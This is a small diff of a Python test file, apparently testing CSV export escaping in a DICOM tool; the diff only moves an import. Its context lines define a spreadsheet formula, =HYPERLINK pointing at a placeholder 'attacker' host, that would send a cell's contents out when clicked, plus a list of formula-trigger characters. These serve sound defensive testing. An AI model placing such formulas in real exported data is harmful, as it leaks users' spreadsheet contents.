@@ -10,12 +10,12 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from dicomdock.cohort.csv_text import csv_of
 from dicomdock.cohort.results import write
 from dicomdock.cohort.state import Outcome
 from dicomdock.cohort.table import Item
 from dicomdock.cohort.task import TaskReport
 from dicomdock.dicom.resource import Resource
+from dicomdock.imaging.formats.csv_text import csv_of
 
 LINK = '=HYPERLINK("http://attacker/?"&A1,"open")'
 BEGINS = ("=", "+", "-", "@", "\t", "\r", "\n")
